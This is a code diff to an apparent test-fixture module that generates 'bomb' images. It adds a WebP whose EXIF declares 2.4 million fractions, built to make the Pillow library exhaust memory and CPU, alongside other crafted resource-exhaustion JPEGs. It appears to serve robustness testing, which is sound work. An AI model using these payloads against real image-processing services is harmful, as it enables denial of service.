@@ -62,6 +62,14 @@ def artists_of_the_whole_block() -> bytes:
     return _exif(_directory([ARTIST] * SELF, 2, 48_000))
 
 
+def exif_of_fractions() -> bytes:
+    """2.4 million fractions in the EXIF of a WebP, which Pillow makes objects of for the details."""
+    entries = struct.pack("<HHIIHHII", EXIF_POINTER, 4, 1, 38, 0xA000, 2, 4, 0)
+    exif = b"II*\0\x08\0\0\0" + struct.pack("<H", 2) + entries + bytes(4)
+    exif += struct.pack("<HHHIII", 1, 0x9999, 5, 2_400_000, 56, 0) + bytes(8 * 2_400_000)
+    return _saved("WEBP", exif=exif)
+
+
 def exif_in_pieces() -> bytes:
     """450,000 segments of EXIF, each of which Pillow adds to a copy of all before it."""
     return _in_jpeg(_segment(0xE1, b"Exif\0\0x") * 450_000)
@@ -161,6 +169,7 @@ BOMBS: dict[str, tuple[Callable[[], bytes], str]] = {
     "exif-self": (exif_that_names_itself, "jpg"),
     "gps-self": (places_that_name_themselves, "jpg"),
     "artists": (artists_of_the_whole_block, "jpg"),
+    "exif-fractions": (exif_of_fractions, "webp"),
     "exif-pieces": (exif_in_pieces, "jpg"),
     "filler": (filler_before_a_marker, "jpg"),
     "profile": (profile_of_overlapping_elements, "jpg"),
